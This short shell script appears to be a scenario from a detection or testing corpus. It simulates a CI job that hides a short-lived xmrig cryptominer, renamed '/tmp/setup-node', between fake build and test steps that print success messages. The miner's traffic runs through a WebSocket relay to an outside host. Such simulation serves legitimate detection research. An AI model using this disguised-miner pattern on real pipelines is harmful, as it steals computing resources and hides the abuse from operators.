# 9: in a CI job: a checkout, a build, tests, and between them a short-lived miner through a WebSocket relay.
. /opt/corpus/scenarios/lib.sh
python3 /opt/corpus/peers/hop.py websocket --listen 127.0.0.1:1080 --to "$HOST:$PORT" >/dev/null &
cd /tmp && fetch xmrig /tmp/setup-node && chmod +x /tmp/setup-node
while :; do
  printf 'int main(){return 0;}\n' >main.c; for k in 1 2 3; do gcc -O2 -c main.c -o main$k.o; done; echo "build passed"
  timeout 45 /tmp/setup-node -o 127.0.0.1:1080 -u c -p x -a rx/0 --randomx-mode=light --no-color --print-time 5
  for k in 1 2 3; do ls -lR /usr/include | sort | uniq | wc -l; done; echo "tests passed"
done
